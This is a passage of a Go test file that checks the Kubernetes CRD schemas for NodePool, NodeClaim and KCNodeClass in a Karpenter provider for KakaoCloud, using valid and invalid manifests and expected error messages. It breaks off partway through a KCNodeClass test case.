// Copyright 2026 The karpenter-provider-kakaocloud Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package crd

import (
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/envtest"
	"sigs.k8s.io/yaml"

	"github.com/kakaocloud/karpenter-provider-kakaocloud/internal/testenv"
)

// The NodePool of seed 001 (the EKS walkthrough) with its AWS-only requirement keys swapped
// for the KakaoCloud ones and nodeClassRef pointing at a KCNodeClass.
const seed001NodePool = `
apiVersion: karpenter.sh/v1
kind: NodePool
metadata:
  name: default
spec:
  template:
    spec:
      requirements:
        - key: kubernetes.io/arch
          operator: In
          values: ["amd64"]
        - key: kubernetes.io/os
          operator: In
          values: ["linux"]
        - key: karpenter.sh/capacity-type
          operator: In
          values: ["on-demand"]
        - key: karpenter.kakaocloud.com/instance-family
          operator: In
          values: ["m2a", "c2a", "r2a"]
        - key: karpenter.kakaocloud.com/instance-cpu
          operator: Gt
          values: ["2"]
      nodeClassRef:
        group: karpenter.kakaocloud.com
        kind: KCNodeClass
        name: default
      expireAfter: 720h
  limits:
    cpu: 1000
  disruption:
    consolidationPolicy: WhenEmptyOrUnderutilized
    consolidateAfter: 1m
`

// The NodePool of seed 003 (the checkout team's pool in the upgrade walkthrough).
const seed003NodePool = `
apiVersion: karpenter.sh/v1
kind: NodePool
metadata:
  name: checkout
spec:
  template:
    metadata:
      labels:
        env: dev
        team: checkout
    spec:
      taints:
        - key: dedicated
          value: CheckoutApp
          effect: NoSchedule
      requirements:
        - key: kubernetes.io/arch
          operator: In
          values: ["amd64"]
      nodeClassRef:
        group: karpenter.kakaocloud.com
        kind: KCNodeClass
        name: default
      expireAfter: 720h
  limits:
    cpu: 100
  disruption:
    consolidationPolicy: WhenEmpty
`

// The KCNodeClass of seeds 000 and 003: a worker version, subnets and a security group.
const seedKCNodeClass = `
apiVersion: karpenter.kakaocloud.com/v1
kind: KCNodeClass
metadata:
  name: default
spec:
  bootstrap:
    kubernetesVersion: "1.36"
  subnetSelectorTerms:
    - name: karpenter-subnet-a
    - id: 7c2b1e3a-5d0f-4c8e-9a61-2f4b8d9e0a11
  securityGroupSelectorTerms:
    - name: karpenter-workers
`

const baseNodeClaim = `
apiVersion: karpenter.sh/v1
kind: NodeClaim
metadata:
  name: default-abcde
  labels:
    karpenter.sh/nodepool: default
    node.kubernetes.io/instance-type: m2a.large
    karpenter.sh/capacity-type: on-demand
    topology.kubernetes.io/zone: kr-central-2-a
spec:
  requirements:
    - key: karpenter.sh/nodepool
      operator: In
      values: ["default"]
    - key: node.kubernetes.io/instance-type
      operator: In
      values: ["m2a.large", "m2a.xlarge"]
  resources:
    requests:
      cpu: "1"
      memory: 1Gi
  nodeClassRef:
    group: karpenter.kakaocloud.com
    kind: KCNodeClass
    name: default
`

var nameCounter atomic.Int64

// object parses a manifest and gives it a fresh name so that cases never collide.
func object(manifest string) *unstructured.Unstructured {
	u := &unstructured.Unstructured{}
	ExpectWithOffset(1, yaml.Unmarshal([]byte(manifest), &u.Object)).To(Succeed())
	u.SetName(fmt.Sprintf("%s-%d", u.GetName(), nameCounter.Add(1)))
	return u
}

// set writes value at path; path elements are map keys (string) or list indexes (int).
// kubelet builds a KCNodeClass whose spec.kubelet has only field, set to value.
func kubelet(field string, value any) func() *unstructured.Unstructured {
	return func() *unstructured.Unstructured {
		return kcNodeClass(func(u *unstructured.Unstructured) { set(u, map[string]any{field: value}, "spec", "kubelet") })
	}
}

func set(u *unstructured.Unstructured, value any, path ...any) {
	var parent any = u.Object
	for i, p := range path {
		last := i == len(path)-1
		switch key := p.(type) {
		case string:
			m := parent.(map[string]any)
			if last {
				m[key] = value
				return
			}
			if _, ok := m[key]; !ok {
				if _, nextIsIndex := path[i+1].(int); nextIsIndex {
					m[key] = []any{}
				} else {
					m[key] = map[string]any{}
				}
			}
			parent = m[key]
		case int:
			l := parent.([]any)
			if last {
				l[key] = value
				return
			}
			parent = l[key]
		}
	}
}

// del removes the field at path.
func del(u *unstructured.Unstructured, path ...string) {
	unstructured.RemoveNestedField(u.Object, path...)
}

func requirement(key, operator string, values ...string) map[string]any {
	r := map[string]any{"key": key, "operator": operator}
	if len(values) > 0 {
		vs := make([]any, len(values))
		for i, v := range values {
			vs[i] = v
		}
		r["values"] = vs
	}
	return r
}

// addRequirement appends a requirement to a NodePool's template or to a NodeClaim.
func addRequirement(u *unstructured.Unstructured, r map[string]any) {
	path := []string{"spec", "template", "spec", "requirements"}
	if u.GetKind() == "NodeClaim" {
		path = []string{"spec", "requirements"}
	}
	reqs, _, _ := unstructured.NestedSlice(u.Object, path...)
	ExpectWithOffset(1, unstructured.SetNestedSlice(u.Object, append(reqs, r), path...)).To(Succeed())
}

func nodePool(mutate func(*unstructured.Unstructured)) *unstructured.Unstructured {
	u := object(seed001NodePool)
	mutate(u)
	return u
}

func nodeClaim(mutate func(*unstructured.Unstructured)) *unstructured.Unstructured {
	u := object(baseNodeClaim)
	mutate(u)
	return u
}

func kcNodeClass(mutate func(*unstructured.Unstructured)) *unstructured.Unstructured {
	u := object(seedKCNodeClass)
	mutate(u)
	return u
}

func get(u *unstructured.Unstructured) *unstructured.Unstructured {
	out := &unstructured.Unstructured{}
	out.SetGroupVersionKind(u.GroupVersionKind())
	ExpectWithOffset(1, k8sClient.Get(ctx, client.ObjectKeyFromObject(u), out)).To(Succeed())
	return out
}

func nested(u *unstructured.Unstructured, path ...string) any {
	v, found, err := unstructured.NestedFieldNoCopy(u.Object, path...)
	ExpectWithOffset(1, err).NotTo(HaveOccurred())
	ExpectWithOffset(1, found).To(BeTrue(), "field %s not set", strings.Join(path, "."))
	return v
}

var _ = Describe("NodePool, NodeClaim and KCNodeClass schemas", func() {
	Context("the seed documents' manifests", func() {
		It("accepts the seed 001 NodePool and fills in the defaults", func() {
			np := object(seed001NodePool)
			Expect(k8sClient.Create(ctx, np)).To(Succeed())
			got := get(np)
			Expect(nested(got, "spec", "template", "spec", "expireAfter")).To(Equal("720h"))
			Expect(nested(got, "spec", "disruption", "consolidationPolicy")).To(Equal("WhenEmptyOrUnderutilized"))
			Expect(nested(got, "spec", "disruption", "consolidateAfter")).To(Equal("1m"))
			Expect(nested(got, "spec", "disruption", "budgets")).To(Equal([]any{map[string]any{"nodes": "10%"}}))
		})

		It("accepts the seed 003 NodePool with its labels and taint, defaulting budgets and consolidateAfter", func() {
			np := object(seed003NodePool)
			Expect(k8sClient.Create(ctx, np)).To(Succeed())
			got := get(np)
			Expect(nested(got, "spec", "template", "metadata", "labels")).To(Equal(map[string]any{"env": "dev", "team": "checkout"}))
			Expect(nested(got, "spec", "template", "spec", "taints")).To(Equal([]any{
				map[string]any{"key": "dedicated", "value": "CheckoutApp", "effect": "NoSchedule"},
			}))
			Expect(nested(got, "spec", "disruption", "consolidationPolicy")).To(Equal("WhenEmpty"))
			Expect(nested(got, "spec", "disruption", "consolidateAfter")).To(Equal("0s"))
			Expect(nested(got, "spec", "disruption", "budgets")).To(Equal([]any{map[string]any{"nodes": "10%"}}))
		})

		It("defaults a NodePool that gives no disruption block and no expireAfter", func() {
			np := nodePool(func(u *unstructured.Unstructured) {
				del(u, "spec", "disruption")
				del(u, "spec", "template", "spec", "expireAfter")
			})
			Expect(k8sClient.Create(ctx, np)).To(Succeed())
			got := get(np)
			Expect(nested(got, "spec", "template", "spec", "expireAfter")).To(Equal("720h"))
			Expect(nested(got, "spec", "disruption", "consolidationPolicy")).To(Equal("WhenEmptyOrUnderutilized"))
			Expect(nested(got, "spec", "disruption", "consolidateAfter")).To(Equal("0s"))
			Expect(nested(got, "spec", "disruption", "budgets")).To(Equal([]any{map[string]any{"nodes": "10%"}}))
		})

		It("accepts the seed KCNodeClass and defaults its root volume", func() {
			nodeClass := object(seedKCNodeClass)
			Expect(k8sClient.Create(ctx, nodeClass)).To(Succeed())
			got := get(nodeClass)
			Expect(nested(got, "spec", "bootstrap", "kubernetesVersion")).To(Equal("1.36"))
			Expect(nested(got, "spec", "rootVolume", "sizeGiB")).To(BeEquivalentTo(50))
		})
	})

	It("accepts every manifest in config/samples", func() {
		dir := filepath.Join(filepath.Dir(filepath.Dir(testenv.CRDDirectory())), "samples")
		files, err := filepath.Glob(filepath.Join(dir, "karpenter*.yaml"))
		Expect(err).NotTo(HaveOccurred())
		Expect(files).To(HaveLen(4))
		for _, f := range files {
			manifest, err := os.ReadFile(f)
			Expect(err).NotTo(HaveOccurred())
			Expect(k8sClient.Create(ctx, object(string(manifest)))).To(Succeed(), f)
		}
	})

	DescribeTable("accepts valid objects",
		func(build func() *unstructured.Unstructured) {
			Expect(k8sClient.Create(ctx, build())).To(Succeed())
		},
		Entry("NodePool with Gte, Lte, NotIn, Exists and DoesNotExist requirements", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-memory", "Gte", "16384"))
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-cpu", "Lte", "32"))
				addRequirement(u, requirement("topology.kubernetes.io/zone", "NotIn", "kr-central-2-c"))
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-gpu-name", "DoesNotExist"))
				addRequirement(u, requirement("example.com/team", "Exists"))
			})
		}),
		Entry("NodePool with minValues no larger than its values", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				r := requirement("node.kubernetes.io/instance-type", "In", "m2a.large", "m2a.xlarge", "c2a.xlarge")
				r["minValues"] = int64(2)
				addRequirement(u, r)
			})
		}),
		Entry("NodePool with a scheduled, reason-scoped budget and expireAfter Never", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{
					map[string]any{"nodes": "0", "schedule": "0 9 * * mon-fri", "duration": "8h", "reasons": []any{"Underutilized", "Empty"}},
					map[string]any{"nodes": "1", "reasons": []any{"Drifted"}},
				}, "spec", "disruption", "budgets")
				set(u, "Never", "spec", "template", "spec", "expireAfter")
				set(u, "1h30m", "spec", "template", "spec", "terminationGracePeriod")
			})
		}),
		Entry("NodePool consolidating Balanced with its own k", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, "Balanced", "spec", "disruption", "consolidationPolicy")
				set(u, int64(4), "spec", "disruption", "balancedK")
			})
		}),
		Entry("NodePool with repair held beyond 2 unhealthy nodes", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "2", "spec", "disruption", "repair", "maxUnhealthy") })
		}),
		Entry("NodePool with repair held beyond a third of its nodes unhealthy", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "33%", "spec", "disruption", "repair", "maxUnhealthy") })
		}),
		Entry("static NodePool with only limits.nodes", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, int64(3), "spec", "replicas")
				set(u, map[string]any{"nodes": "5"}, "spec", "limits")
			})
		}),
		Entry("NodePool with custom keys of the kubernetes.io and k8s.io domains, as upstream admits them", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("kubernetes.io/custom", "In", "x"))
				addRequirement(u, requirement("example.k8s.io/thing", "Exists"))
				set(u, map[string]any{"kubernetes.io/role": "x", "team.k8s.io/name": "checkout"}, "spec", "template", "metadata", "labels")
			})
		}),
		Entry("NodePool with node.kubernetes.io and provider label keys on its template", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"node.kubernetes.io/role": "worker", "karpenter.kakaocloud.com/instance-family": "m2a", "karpenter.sh/capacity-type": "on-demand"}, "spec", "template", "metadata", "labels")
			})
		}),
		Entry("NodeClaim with a karpenter.sh/nodepool requirement", func() *unstructured.Unstructured {
			return nodeClaim(func(*unstructured.Unstructured) {})
		}),
		Entry("KCNodeClass with a pinned image, key pair, kubelet settings and user data", func() *unstructured.Unstructured {
			return kcNodeClass(func(u *unstructured.Unstructured) {
				set(u, "3f8e9c1a-2b4d-4e6f-8a0b-1c2d3e4f5a6b", "spec", "imageID")
				set(u, "ops-key", "spec", "keyPairName")
				set(u, map[string]any{"sizeGiB": int64(100), "typeID": "ssd"}, "spec", "rootVolume")
				set(u, "#!/bin/bash\necho hello\n", "spec", "userData")
				set(u, map[string]any{
					"maxPods":                     int64(110),
					"systemReserved":              map[string]any{"cpu": "100m", "memory": "200Mi"},
					"evictionHard":                map[string]any{"memory.available": "5%"},
					"evictionSoft":                map[string]any{"memory.available": "500Mi"},
					"evictionSoftGracePeriod":     map[string]any{"memory.available": "1m"},
					"imageGCHighThresholdPercent": int64(85),
					"imageGCLowThresholdPercent":  int64(80),
				}, "spec", "kubelet")
			})
		}),
	)

	DescribeTable("rejects invalid objects with a specific message",
		func(build func() *unstructured.Unstructured, message string) {
			err := k8sClient.Create(ctx, build())
			Expect(err).To(HaveOccurred())
			Expect(err.Error()).To(ContainSubstring(message))
			// A rule that fails to evaluate (a missing optional field) must not pass for a
			// rejection: its message would only be there by accident.
			Expect(err.Error()).NotTo(ContainSubstring("evaluating rule"))
		},
		// NodePool requirements: keys.
		Entry("seed 001's AWS key karpenter.k8s.aws/instance-category", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.k8s.aws/instance-category", "In", "c", "m", "r"))
			})
		}, "requirement key karpenter.k8s.aws/instance-category belongs to another cloud provider; on KakaoCloud use node.kubernetes.io/instance-type, topology.kubernetes.io/zone or karpenter.kakaocloud.com/instance-family"),
		Entry("seed 001's AWS key karpenter.k8s.aws/instance-generation", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.k8s.aws/instance-generation", "Gt", "2"))
			})
		}, "requirement key karpenter.k8s.aws/instance-generation belongs to another cloud provider"),
		Entry("an Azure key", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.azure.com/sku-family", "In", "D"))
			})
		}, "requirement key karpenter.azure.com/sku-family belongs to another cloud provider"),
		Entry("an EKS key", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("eks.amazonaws.com/nodegroup", "Exists"))
			})
		}, "requirement key eks.amazonaws.com/nodegroup belongs to another cloud provider"),
		Entry("kubernetes.io/hostname", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("kubernetes.io/hostname", "In", "node-1"))
			})
		}, `label "kubernetes.io/hostname" is restricted`),
		Entry("karpenter.sh/nodepool in a NodePool", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.sh/nodepool", "In", "other"))
			})
		}, `label "karpenter.sh/nodepool" is restricted`),
		Entry("another karpenter.sh key", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.sh/initialized", "In", "true"))
			})
		}, `label domain "karpenter.sh" is restricted: only karpenter.sh/capacity-type may be used, not karpenter.sh/initialized`),
		Entry("a key whose prefix is not lowercase", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("Example.com/team", "Exists"))
			})
		}, `spec.template.spec.requirements[5].key: Invalid value: "Example.com/team"`),
		Entry("a key whose name is over 63 characters", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("example.com/"+strings.Repeat("t", 64), "Exists"))
			})
		}, "requirement keys must be qualified names: a prefix of at most 253 characters before the '/', and at most 63 after it"),
		Entry("an unregistered KakaoCloud key", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-generation", "Gt", "1"))
			})
		}, `label domain "karpenter.kakaocloud.com" is restricted: karpenter.kakaocloud.com/instance-generation is not one of`),
		Entry("the kcnodeclass label in a NodePool", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.kakaocloud.com/kcnodeclass", "In", "other"))
			})
		}, `label "karpenter.kakaocloud.com/kcnodeclass" is restricted: it is set from nodeClassRef`),
		Entry("a key that is not a qualified name", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("bad key!", "Exists"))
			})
		}, `spec.template.spec.requirements[5].key: Invalid value: "bad key!"`),
		// NodePool requirements: operators and values.
		Entry("an unknown operator", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("topology.kubernetes.io/zone", "Within", "kr-central-2-a"))
			})
		}, `Unsupported value: "Within"`),
		Entry("In without values", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("topology.kubernetes.io/zone", "In"))
			})
		}, `spec.template.spec.requirements[5]: Invalid value: requirements with operator 'In' must have a value defined`),
		Entry("Gt with two values", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-cpu", "Gt", "2", "4"))
			})
		}, "requirements operator 'Gt', 'Lt', 'Gte', or 'Lte' must have a single positive integer value"),
		Entry("Lt with a word", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-memory", "Lt", "big"))
			})
		}, "requirements operator 'Gt', 'Lt', 'Gte', or 'Lte' must have a single positive integer value"),
		Entry("Lte with a negative number", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.kakaocloud.com/instance-cpu", "Lte", "-1"))
			})
		}, "requirements operator 'Gt', 'Lt', 'Gte', or 'Lte' must have a single positive integer value"),
		Entry("Exists with values", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("example.com/team", "Exists", "a"))
			})
		}, "requirements with operator 'Exists' or 'DoesNotExist' must not have values"),
		Entry("minValues larger than the values given", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				r := requirement("node.kubernetes.io/instance-type", "In", "m2a.large", "m2a.xlarge")
				r["minValues"] = int64(3)
				addRequirement(u, r)
			})
		}, "requirements with 'minValues' must have at least that many values specified in the 'values' field"),
		Entry("minValues of 0", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				r := requirement("node.kubernetes.io/instance-type", "Exists")
				r["minValues"] = int64(0)
				addRequirement(u, r)
			})
		}, "minValues: Invalid value: 0: spec.template.spec.requirements[5].minValues in body should be greater than or equal to 1"),
		Entry("minValues above 50", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				r := requirement("node.kubernetes.io/instance-type", "Exists")
				r["minValues"] = int64(51)
				addRequirement(u, r)
			})
		}, "should be less than or equal to 50"),
		Entry("a value longer than 63 characters", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("example.com/team", "In", strings.Repeat("a", 64)))
			})
		}, "may not be more than 63 bytes"),
		Entry("no requirements at all", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { del(u, "spec", "template", "spec", "requirements") })
		}, `spec.template.spec.requirements: Required value`),
		// NodePool durations, policies and budgets.
		Entry("expireAfter in days", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "30d", "spec", "template", "spec", "expireAfter") })
		}, `spec.template.spec.expireAfter: Invalid value: "30d"`),
		Entry("consolidateAfter that is not a duration", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "soon", "spec", "disruption", "consolidateAfter") })
		}, `spec.disruption.consolidateAfter: Invalid value: "soon"`),
		Entry("terminationGracePeriod Never", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, "Never", "spec", "template", "spec", "terminationGracePeriod")
			})
		}, `spec.template.spec.terminationGracePeriod: Invalid value: "Never"`),
		Entry("the v1beta1 policy WhenUnderutilized", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, "WhenUnderutilized", "spec", "disruption", "consolidationPolicy")
			})
		}, `Unsupported value: "WhenUnderutilized": supported values: "WhenEmpty", "WhenEmptyOrUnderutilized"`),
		Entry("a budget of 110%", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "110%"}}, "spec", "disruption", "budgets")
			})
		}, `spec.disruption.budgets[0].nodes: Invalid value: "110%"`),
		Entry("a negative budget", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "-1"}}, "spec", "disruption", "budgets")
			})
		}, `spec.disruption.budgets[0].nodes: Invalid value: "-1"`),
		Entry("a budget schedule without a duration", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "0", "schedule": "@daily"}}, "spec", "disruption", "budgets")
			})
		}, "'schedule' must be set with 'duration'"),
		Entry("a budget duration without a schedule", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "0", "duration": "1h"}}, "spec", "disruption", "budgets")
			})
		}, "'schedule' must be set with 'duration'"),
		Entry("a budget duration in seconds", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "0", "schedule": "@daily", "duration": "30s"}}, "spec", "disruption", "budgets")
			})
		}, `spec.disruption.budgets[0].duration: Invalid value: "30s"`),
		Entry("a budget schedule that is not cron", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "0", "schedule": "every day", "duration": "1h"}}, "spec", "disruption", "budgets")
			})
		}, `spec.disruption.budgets[0].schedule: Invalid value: "every day"`),
		Entry("a budget reason Expired", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"nodes": "1", "reasons": []any{"Expired"}}}, "spec", "disruption", "budgets")
			})
		}, `Unsupported value: "Expired": supported values: "Underutilized", "Empty", "Drifted"`),
		Entry("weight 0", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, int64(0), "spec", "weight") })
		}, "spec.weight: Invalid value: 0: spec.weight in body should be greater than or equal to 1"),
		Entry("weight 101", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, int64(101), "spec", "weight") })
		}, "spec.weight in body should be less than or equal to 100"),
		Entry("balancedK without the Balanced policy", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, "WhenEmptyOrUnderutilized", "spec", "disruption", "consolidationPolicy")
				set(u, int64(4), "spec", "disruption", "balancedK")
			})
		}, "balancedK applies to consolidationPolicy Balanced only"),
		Entry("balancedK 0", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, "Balanced", "spec", "disruption", "consolidationPolicy")
				set(u, int64(0), "spec", "disruption", "balancedK")
			})
		}, "spec.disruption.balancedK in body should be greater than or equal to 1"),
		Entry("repair.maxUnhealthy that is neither a count nor a percentage", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "a few", "spec", "disruption", "repair", "maxUnhealthy") })
		}, `spec.disruption.repair.maxUnhealthy: Invalid value: "a few": spec.disruption.repair.maxUnhealthy in body should match`),
		Entry("repair.maxUnhealthy over 100%", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "150%", "spec", "disruption", "repair", "maxUnhealthy") })
		}, "spec.disruption.repair.maxUnhealthy in body should match"),
		Entry("a static NodePool with a cpu limit", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, int64(2), "spec", "replicas") })
		}, "only 'limits.nodes' is supported on static NodePools"),
		Entry("a static NodePool with a weight", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, int64(2), "spec", "replicas")
				del(u, "spec", "limits")
				set(u, int64(10), "spec", "weight")
			})
		}, "'weight' is not supported on static NodePools"),
		// NodePool nodeClassRef.
		Entry("nodeClassRef to an EC2NodeClass", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"group": "karpenter.k8s.aws", "kind": "EC2NodeClass", "name": "default"}, "spec", "template", "spec", "nodeClassRef")
			})
		}, "nodeClassRef must reference a KCNodeClass (group karpenter.kakaocloud.com, kind KCNodeClass), not EC2NodeClass.karpenter.k8s.aws"),
		Entry("nodeClassRef with an empty name", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { set(u, "", "spec", "template", "spec", "nodeClassRef", "name") })
		}, "name may not be empty"),
		Entry("no nodeClassRef", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) { del(u, "spec", "template", "spec", "nodeClassRef") })
		}, "spec.template.spec.nodeClassRef: Required value"),
		// NodePool template labels and taints.
		Entry("a karpenter.sh/nodepool template label", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"karpenter.sh/nodepool": "x"}, "spec", "template", "metadata", "labels")
			})
		}, `label "karpenter.sh/nodepool" is restricted`),
		Entry("a kubernetes.io/hostname template label", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"kubernetes.io/hostname": "x"}, "spec", "template", "metadata", "labels")
			})
		}, `label "kubernetes.io/hostname" is restricted`),
		Entry("a template label key whose prefix is over 253 characters", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{strings.Repeat("a", 250) + ".com/team": "x"}, "spec", "template", "metadata", "labels")
			})
		}, "label keys must be qualified names"),
		Entry("a taint key whose prefix is not lowercase", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"key": "Example.com/dedicated", "effect": "NoSchedule"}}, "spec", "template", "spec", "taints")
			})
		}, `spec.template.spec.taints[0].key: Invalid value: "Example.com/dedicated"`),
		Entry("an AWS template label", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"karpenter.k8s.aws/instance-family": "m5"}, "spec", "template", "metadata", "labels")
			})
		}, "label keys of other cloud providers' Karpenter domains are not supported on KakaoCloud"),
		Entry("a template label value with a space", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"team": "check out"}, "spec", "template", "metadata", "labels")
			})
		}, `spec.template.metadata.labels.team: Invalid value: "check out"`),
		Entry("a template label key that is not a qualified name", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, map[string]any{"team name": "checkout"}, "spec", "template", "metadata", "labels")
			})
		}, "label keys must be qualified names"),
		Entry("a taint with an unknown effect", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"key": "dedicated", "value": "CheckoutApp", "effect": "NoWay"}}, "spec", "template", "spec", "taints")
			})
		}, `spec.template.spec.taints[0].effect: Unsupported value: "NoWay": supported values: "NoSchedule", "PreferNoSchedule", "NoExecute"`),
		Entry("a taint key that is not a qualified name", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"key": "dedi cated", "effect": "NoSchedule"}}, "spec", "template", "spec", "taints")
			})
		}, `spec.template.spec.taints[0].key: Invalid value: "dedi cated"`),
		Entry("a startup taint with a bad value", func() *unstructured.Unstructured {
			return nodePool(func(u *unstructured.Unstructured) {
				set(u, []any{map[string]any{"key": "example.com/init", "value": "not ready", "effect": "NoSchedule"}}, "spec", "template", "spec", "startupTaints")
			})
		}, `spec.template.spec.startupTaints[0].value: Invalid value: "not ready"`),
		// NodeClaim.
		Entry("a NodeClaim with kubernetes.io/hostname", func() *unstructured.Unstructured {
			return nodeClaim(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("kubernetes.io/hostname", "In", "node-1"))
			})
		}, `label "kubernetes.io/hostname" is restricted`),
		Entry("a NodeClaim with an AWS key", func() *unstructured.Unstructured {
			return nodeClaim(func(u *unstructured.Unstructured) {
				addRequirement(u, requirement("karpenter.k8s.aws/instance-family", "In", "m5"))
			})
		}, "requirement key karpenter.k8s.aws/instance-family belongs to another cloud provider"),
		Entry("a NodeClaim without nodeClassRef", func() *unstructured.Unstructured {
			return nodeClaim(func(u *unstructured.Unstructured) { del(u, "spec", "nodeClassRef") })
		}, "spec.nodeClassRef: Required value"),
		Entry("a NodeClaim with expireAfter in days", func() *unstructured.Unstructured {
			return nodeClaim(func(u *unstructured.Unstructured) { set(u, "1d", "spec", "expireAfter") })
		}, `spec.expireAfter: Invalid value: "1d"`),
		// KCNodeClass.
		Entry("a KCNodeClass without kubernetesVersion", func() *unstructured.Unstructured {
